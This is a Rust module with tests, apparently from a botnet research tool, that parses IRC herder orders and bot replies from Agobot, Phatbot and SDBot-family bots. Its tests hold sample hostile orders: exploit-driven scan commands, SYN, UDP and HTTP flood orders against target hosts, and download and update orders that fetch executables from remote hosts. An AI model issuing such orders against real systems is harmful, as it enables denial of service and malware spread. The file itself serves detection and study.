//! The order interpreter (Table 10, Fig. 6–7): herder orders as they appear
//! in IRC TOPIC and PRIVMSG texts, and the bots' `[TAG]: ...` replies.
//!
//! Pure functions over one text; linking orders to sessions and replies is
//! done by the caller. Argument layouts follow the Agobot/Phatbot and
//! rbot/SDBot command sets; `docs/analyze.md` lists them.

use serde::{Deserialize, Serialize};

/// Longest text interpreted (IRC lines are at most 512 bytes; bots ignore that).
pub const MAX_TEXT: usize = 4096;
/// Most arguments kept.
pub const MAX_ARGS: usize = 32;

/// The `-a -b -r -s` switches of a scan order.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScanFlags {
    /// `-a`: stay in the bot's class A (/8).
    pub a: bool,
    /// `-b`: stay in the bot's class B (/16).
    pub b: bool,
    /// `-r`: random addresses.
    pub r: bool,
    /// `-s`: silent (no replies in the channel).
    pub s: bool,
}

/// The Phatbot `ddos.*` family.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum DdosKind {
    /// `ddos.httpflood`: HTTP GET flood.
    HttpFlood,
    /// `ddos.phaticmp`: ICMP flood.
    PhatIcmp,
    /// `ddos.phatsyn`: SYN+URG flood.
    PhatSyn,
    /// `ddos.phatwolk`: SYN+ACK flood to open ports.
    PhatWolk,
    /// `ddos.stop`: end all floods.
    Stop,
    /// `ddos.synflood`: SYN flood.
    SynFlood,
    /// `ddos.targa3`: malformed IP fragments.
    Targa3,
    /// `ddos.udpflood`: UDP flood.
    UdpFlood,
    /// Any other `ddos.*` name (kept, counted).
    Other(String),
}

impl DdosKind {
    fn from_suffix(s: &str) -> DdosKind {
        match s {
            "httpflood" => DdosKind::HttpFlood,
            "phaticmp" => DdosKind::PhatIcmp,
            "phatsyn" => DdosKind::PhatSyn,
            "phatwolk" => DdosKind::PhatWolk,
            "stop" => DdosKind::Stop,
            "synflood" => DdosKind::SynFlood,
            "targa3" => DdosKind::Targa3,
            "udpflood" => DdosKind::UdpFlood,
            other => DdosKind::Other(other.to_string()),
        }
    }

    /// The command name (`ddos.synflood`).
    pub fn command(&self) -> String {
        let s = match self {
            DdosKind::HttpFlood => "httpflood",
            DdosKind::PhatIcmp => "phaticmp",
            DdosKind::PhatSyn => "phatsyn",
            DdosKind::PhatWolk => "phatwolk",
            DdosKind::Stop => "stop",
            DdosKind::SynFlood => "synflood",
            DdosKind::Targa3 => "targa3",
            DdosKind::UdpFlood => "udpflood",
            DdosKind::Other(o) => o,
        };
        format!("ddos.{s}")
    }
}

/// What an order asks for.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "lowercase")]
pub enum OrderKind {
    /// `advscan`, `ntscan`, `ipscan`, `scan` and their `scan.*` forms.
    Scan {
        /// Exploit module to spread with (`dcom135`, `lsass`...).
        scanner: Option<String>,
        /// Scanning threads.
        threads: Option<u32>,
        /// Seconds between attempts.
        delay_s: Option<u32>,
        /// How long to scan, minutes (0 = until stopped).
        minutes: Option<u32>,
        /// An address pattern (`r.r.r`, `192.168.x.x`), when given.
        range: Option<String>,
        /// Switches.
        flags: ScanFlags,
    },
    /// `ddos.*`.
    Ddos {
        /// Which flood.
        flood: DdosKind,
        /// Target host, address or URL.
        target: Option<String>,
        /// Target port.
        port: Option<u16>,
        /// Duration in seconds.
        duration_s: Option<u32>,
        /// Delay between packets, ms.
        delay_ms: Option<u32>,
    },
    /// `download`, `update` and their `http.`/`ftp.`/`bot.` forms.
    Download {
        /// True for an update (replace the bot) rather than a plain download.
        update: bool,
        /// URL.
        url: Option<String>,
        /// Local file name (downloads) or bot id (updates).
        file: Option<String>,
    },
    /// `redirect.*` and `socks*`: a relay opened on the bot.
    Redirect {
        /// Sub-command (`tcp`, `socks`, `http`, `https`, `gre`, `stop`...).
        mode: String,
        /// Port opened on the bot.
        local_port: Option<u16>,
        /// Relay target host.
        target: Option<String>,
        /// Relay target port.
        target_port: Option<u16>,
    },
    /// Anything else with an order prefix: counted, not dropped.
    Unknown,
}

/// One order parsed from a text.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Order {
    /// The prefix character (`.`, `!`, `@`), if any.
    pub prefix: Option<char>,
    /// The command word, lower-cased (`advscan`, `ddos.synflood`).
    pub command: String,
    /// The arguments after the command (at most [`MAX_ARGS`]).
    pub args: Vec<String>,
    /// Interpretation.
    pub kind: OrderKind,
}

/// Removes mIRC colour/format codes and other control characters.
pub fn strip_formatting(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(MAX_TEXT));
    let mut chars = text.chars().take(MAX_TEXT).peekable();
    while let Some(c) = chars.next() {
        match c {
            '\x03' => {
                // \x03[fg[,bg]] with one- or two-digit numbers.
                for _ in 0..2 {
                    if chars.peek().is_some_and(|d| d.is_ascii_digit()) {
                        chars.next();
                    }
                }
                if chars.peek() == Some(&',') {
                    chars.next();
                    for _ in 0..2 {
                        if chars.peek().is_some_and(|d| d.is_ascii_digit()) {
                            chars.next();
                        }
                    }
                }
            }
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

fn is_known_command(cmd: &str) -> bool {
    matches!(
        cmd,
        "advscan"
            | "ntscan"
            | "ipscan"
            | "scan"
            | "download"
            | "update"
            | "socks"
            | "socks4"
            | "socks5"
            | "redirect"
    ) || cmd.starts_with("ddos.")
        || cmd.starts_with("redirect.")
        || cmd.starts_with("scan.")
        || cmd.starts_with("http.")
        || cmd.starts_with("ftp.")
        || cmd == "bot.update"
}

/// Parses one TOPIC or PRIVMSG text. A text with a prefix (`.`, `!`, `@`)
/// is always an order (unknown ones included); a text without one is an
/// order only when its first word is a known command.
pub fn parse_order(text: &str) -> Option<Order> {
    let clean = strip_formatting(text);
    let t = clean.trim();
    let (prefix, rest) = match t.chars().next()? {
        c @ ('.' | '!' | '@') => (Some(c), t[1..].trim_start()),
        _ => (None, t),
    };
    let mut words = rest.split_whitespace();
    let command = words.next()?.to_ascii_lowercase();
    if command.is_empty()
        || !command
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
    {
        return None;
    }
    if prefix.is_none() && !is_known_command(&command) {
        return None;
    }
    let args: Vec<String> = words.take(MAX_ARGS).map(str::to_string).collect();
    let kind = interpret(&command, &args);
    Some(Order {
        prefix,
        command,
        args,
        kind,
    })
}

fn num<T: std::str::FromStr>(s: Option<&String>) -> Option<T> {
    s.and_then(|v| v.parse().ok())
}

fn interpret(cmd: &str, args: &[String]) -> OrderKind {
    let scan_cmd =
        matches!(cmd, "advscan" | "ntscan" | "ipscan" | "scan") || cmd.starts_with("scan.");
    if scan_cmd {
        return interpret_scan(cmd, args);
    }
    if let Some(f) = cmd.strip_prefix("ddos.") {
        return interpret_ddos(DdosKind::from_suffix(f), args);
    }
    let plain = cmd.rsplit('.').next().unwrap_or(cmd);
    let family_ok =
        !cmd.contains('.') || ["http.", "ftp.", "bot."].iter().any(|p| cmd.starts_with(p));
    if family_ok && matches!(plain, "download" | "update") {
        return OrderKind::Download {
            update: plain == "update",
            url: args.first().cloned(),
            file: args.get(1).cloned(),
        };
    }
    if let Some(mode) = cmd.strip_prefix("redirect.") {
        return interpret_redirect(mode, args);
    }
    if matches!(cmd, "socks" | "socks4" | "socks5" | "redirect") {
        let mode = if cmd == "redirect" { "tcp" } else { cmd };
        return interpret_redirect(mode, args);
    }
    OrderKind::Unknown
}

fn interpret_scan(cmd: &str, args: &[String]) -> OrderKind {
    let mut flags = ScanFlags::default();
    let mut plain: Vec<&String> = Vec::new();
    for a in args {
        match a.as_str() {
            "-a" => flags.a = true,
            "-b" => flags.b = true,
            "-r" => flags.r = true,
            "-s" => flags.s = true,
            _ => plain.push(a),
        }
    }
    let is_num = |s: &&String| s.parse::<u64>().is_ok();
    let is_range = |s: &&String| {
        s.contains('.')
            && s.split('.')
                .all(|p| p.parse::<u8>().is_ok() || p == "x" || p == "r" || p == "*")
    };
    let range = plain.iter().find(|s| is_range(s)).map(|s| s.to_string());
    let scanner = plain
        .iter()
        .find(|s| !is_num(s) && !is_range(s))
        .map(|s| s.to_string());
    let nums: Vec<u64> = plain
        .iter()
        .filter(|s| is_num(s))
        .filter_map(|s| s.parse().ok())
        .collect();
    let n = |i: usize| nums.get(i).and_then(|v| u32::try_from(*v).ok());
    // advscan/scan: <scanner> <threads> <delay s> <minutes>;
    // ntscan: <threads> <delay s> [minutes];
    // ipscan: <range> <scanner> <seconds> <threads> <delay ms>.
    let (threads, delay_s, minutes) = match cmd {
        "ipscan" => (n(1), n(2).map(|ms| ms / 1000), n(0).map(|s| s / 60)),
        _ => (n(0), n(1), n(2)),
    };
    OrderKind::Scan {
        scanner,
        threads,
        delay_s,
        minutes,
        range,
        flags,
    }
}

fn interpret_ddos(flood: DdosKind, args: &[String]) -> OrderKind {
    let a = |i: usize| args.get(i);
    // Agobot/Phatbot layouts:
    //   synflood|phatsyn|phatwolk <host> <time s> <delay ms> <port>
    //   phaticmp <host> <time s> <delay ms>
    //   udpflood <host> <port> <time s> <delay ms>
    //   targa3 <host> <time s>
    //   httpflood <url> <time s> [referrer] [recursive]
    let (target, port, duration_s, delay_ms) = match &flood {
        DdosKind::SynFlood | DdosKind::PhatSyn | DdosKind::PhatWolk => {
            (a(0).cloned(), num(a(3)), num(a(1)), num(a(2)))
        }
        DdosKind::PhatIcmp => (a(0).cloned(), None, num(a(1)), num(a(2))),
        DdosKind::UdpFlood => (a(0).cloned(), num(a(1)), num(a(2)), num(a(3))),
        DdosKind::Targa3 => (a(0).cloned(), None, num(a(1)), None),
        DdosKind::HttpFlood => {
            let url = a(0).cloned();
            let port = url.as_deref().and_then(url_port);
            (url, port, num(a(1)), None)
        }
        DdosKind::Stop => (None, None, None, None),
        DdosKind::Other(_) => (a(0).cloned(), None, None, None),
    };
    OrderKind::Ddos {
        flood,
        target,
        port,
        duration_s,
        delay_ms,
    }
}

fn interpret_redirect(mode: &str, args: &[String]) -> OrderKind {
    OrderKind::Redirect {
        mode: mode.to_string(),
        local_port: num(args.first()),
        target: args.get(1).cloned(),
        target_port: num(args.get(2)),
    }
}

/// The port of an `http://host:port/...` URL (80 when none is given).
pub fn url_port(url: &str) -> Option<u16> {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let hostport = rest.split(['/', '?']).next()?;
    match hostport.rsplit_once(':') {
        Some((_, p)) => p.parse().ok(),
        None => Some(if url.starts_with("ftp://") { 21 } else { 80 }),
    }
}

/// The host of a URL.
pub fn url_host(url: &str) -> Option<&str> {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let hostport = rest.split(['/', '?']).next()?;
    let host = hostport
        .rsplit_once(':')
        .map(|(h, _)| h)
        .unwrap_or(hostport);
    let host = host.rsplit_once('@').map(|(_, h)| h).unwrap_or(host);
    (!host.is_empty()).then_some(host)
}

/// A bot's reply: `[DOWNLOAD]: Downloaded 28.6 KB to x.exe @ 28.6 KB/sec.`
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Reply {
    /// The module tag, upper-cased (`DOWNLOAD`, `SCAN`, `DDOS`).
    pub tag: String,
    /// The text after the tag.
    pub text: String,
    /// URL named in the text, if any.
    pub url: Option<String>,
    /// File name named in the text (`to: x.exe`, `to x.exe`, `Opened: x.exe`).
    pub file: Option<String>,
    /// Whether the reply reports a failure.
    pub failed: bool,
}

/// Parses a bot reply; `None` when the text is not of the `[TAG]` form.
pub fn parse_reply(text: &str) -> Option<Reply> {
    let clean = strip_formatting(text);
    let t = clean.trim().strip_prefix('[')?;
    let (tag, rest) = t.split_once(']')?;
    if tag.is_empty()
        || tag.len() > 24
        || !tag
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == ' ' || c == '.')
    {
        return None;
    }
    let text = rest.trim_start_matches(':').trim().to_string();
    let words: Vec<&str> = text.split_whitespace().collect();
    let url = words
        .iter()
        .find(|w| w.contains("://"))
        .map(|w| w.trim_end_matches('.').to_string());
    let clean_file = |w: &str| w.trim_end_matches(['.', ',']).to_string();
    let mut file = None;
    for (i, w) in words.iter().enumerate() {
        let wl = w.to_ascii_lowercase();
        if (wl == "to:" || wl == "to" || wl == "opened:" || wl == "executed:")
            && i + 1 < words.len()
        {
            file = Some(clean_file(words[i + 1]));
        }
    }
    let lower = text.to_ascii_lowercase();
    let failed = ["fail", "error", "couldn't", "could not", "unable"]
        .iter()
        .any(|k| lower.contains(k));
    Some(Reply {
        tag: tag.to_ascii_uppercase(),
        text,
        url,
        file,
        failed,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn advscan_from_figure_6_and_the_corpus() {
        let o = parse_order(".advscan dcom135 200 3 0 -r -s").unwrap();
        assert_eq!(o.prefix, Some('.'));
        assert_eq!(o.command, "advscan");
        assert_eq!(
            o.kind,
            OrderKind::Scan {
                scanner: Some("dcom135".into()),
                threads: Some(200),
                delay_s: Some(3),
                minutes: Some(0),
                range: None,
                flags: ScanFlags {
                    a: false,
                    b: false,
                    r: true,
                    s: true
                },
            }
        );
        let o = parse_order(".advscan dcom135 260 5 0 -b -r -s").unwrap();
        let OrderKind::Scan {
            threads,
            delay_s,
            flags,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((threads, delay_s), (Some(260), Some(5)));
        assert_eq!(
            flags,
            ScanFlags {
                a: false,
                b: true,
                r: true,
                s: true
            }
        );
        let o = parse_order("!advscan dclass 400 3 999 -r -s").unwrap();
        assert_eq!(o.prefix, Some('!'));
        let OrderKind::Scan {
            scanner, minutes, ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((scanner.as_deref(), minutes), (Some("dclass"), Some(999)));
    }

    #[test]
    fn ntscan_and_ipscan_without_prefix() {
        let o = parse_order("ntscan 200 2000 -a -b -s").unwrap();
        assert_eq!(o.prefix, None);
        let OrderKind::Scan {
            threads,
            delay_s,
            flags,
            scanner,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((threads, delay_s, scanner), (Some(200), Some(2000), None));
        assert!(flags.a && flags.b && flags.s && !flags.r);
        let o = parse_order("ipscan r.r.r dcom2 86400 256 8000 -s").unwrap();
        let OrderKind::Scan {
            threads,
            delay_s,
            minutes,
            range,
            scanner,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!(range.as_deref(), Some("r.r.r"));
        assert_eq!(scanner.as_deref(), Some("dcom2"));
        assert_eq!(
            (threads, delay_s, minutes),
            (Some(256), Some(8), Some(1440))
        );
        // No prefix and not a known command: chat, not an order.
        assert_eq!(parse_order("hello all"), None);
    }

    #[test]
    fn ddos_family() {
        let o = parse_order("@ddos.synflood 10.1.2.3 600 0 6667").unwrap();
        assert_eq!(
            o.kind,
            OrderKind::Ddos {
                flood: DdosKind::SynFlood,
                target: Some("10.1.2.3".into()),
                port: Some(6667),
                duration_s: Some(600),
                delay_ms: Some(0),
            }
        );
        let o = parse_order(".ddos.udpflood 10.9.9.9 53 120 5").unwrap();
        let OrderKind::Ddos {
            port, duration_s, ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((port, duration_s), (Some(53), Some(120)));
        let o = parse_order(".ddos.httpflood http://victim.example:8080/x.php 300").unwrap();
        let OrderKind::Ddos {
            flood,
            port,
            duration_s,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!(
            (flood, port, duration_s),
            (DdosKind::HttpFlood, Some(8080), Some(300))
        );
        for (c, k) in [
            ("phaticmp", DdosKind::PhatIcmp),
            ("phatsyn", DdosKind::PhatSyn),
            ("phatwolk", DdosKind::PhatWolk),
            ("stop", DdosKind::Stop),
            ("targa3", DdosKind::Targa3),
        ] {
            let o = parse_order(&format!(".ddos.{c} 1.2.3.4 60")).unwrap();
            let OrderKind::Ddos { flood, .. } = o.kind else {
                panic!()
            };
            assert_eq!(flood, k);
            assert_eq!(flood.command(), format!("ddos.{c}"));
        }
    }

    #[test]
    fn download_update_redirect_unknown() {
        let o = parse_order(".download http://www.wanees.net/bbnz.exe bbnz.exe 1").unwrap();
        assert_eq!(
            o.kind,
            OrderKind::Download {
                update: false,
                url: Some("http://www.wanees.net/bbnz.exe".into()),
                file: Some("bbnz.exe".into())
            }
        );
        let o = parse_order("!http.update http://x.example/b.exe 42").unwrap();
        assert!(matches!(o.kind, OrderKind::Download { update: true, .. }));
        let o = parse_order(".redirect.tcp 3186 mail.example 25").unwrap();
        assert_eq!(
            o.kind,
            OrderKind::Redirect {
                mode: "tcp".into(),
                local_port: Some(3186),
                target: Some("mail.example".into()),
                target_port: Some(25)
            }
        );
        let o = parse_order(".redirect.socks 6329").unwrap();
        assert!(matches!(
            o.kind,
            OrderKind::Redirect {
                local_port: Some(6329),
                ..
            }
        ));
        let o = parse_order(".login secret").unwrap();
        assert_eq!((o.command.as_str(), o.kind), ("login", OrderKind::Unknown));
        // Colour codes do not hide an order.
        let o = parse_order("\x0304,01.ddos.stop\x03").unwrap();
        assert!(matches!(
            o.kind,
            OrderKind::Ddos {
                flood: DdosKind::Stop,
                ..
            }
        ));
    }

    #[test]
    fn replies_from_the_corpus_bot() {
        let r = parse_reply(
            "[DOWNLOAD]: Downloading URL: http://www.wanees.net/bbnz.exe to: bbnz.exe.",
        )
        .unwrap();
        assert_eq!(r.tag, "DOWNLOAD");
        assert_eq!(r.url.as_deref(), Some("http://www.wanees.net/bbnz.exe"));
        assert_eq!(r.file.as_deref(), Some("bbnz.exe"));
        assert!(!r.failed);
        let r = parse_reply(
            "[DOWNLOAD]: Downloaded 28.6 KB to ysbinstall_1000489_3.exe @ 28.6 KB/sec.",
        )
        .unwrap();
        assert_eq!(r.file.as_deref(), Some("ysbinstall_1000489_3.exe"));
        let r = parse_reply("[DOWNLOAD]: Couldn't open file: x.exe.").unwrap();
        assert!(r.failed);
        assert_eq!(parse_reply("plain chat"), None);
    }

    #[test]
    fn url_parts() {
        assert_eq!(
            url_port("http://webacceptor.findwhatevernow.com:8091/get.file?a=1"),
            Some(8091)
        );
        assert_eq!(url_port("http://x/y"), Some(80));
        assert_eq!(url_host("http://u:p@h.example:81/z"), Some("h.example"));
    }
}
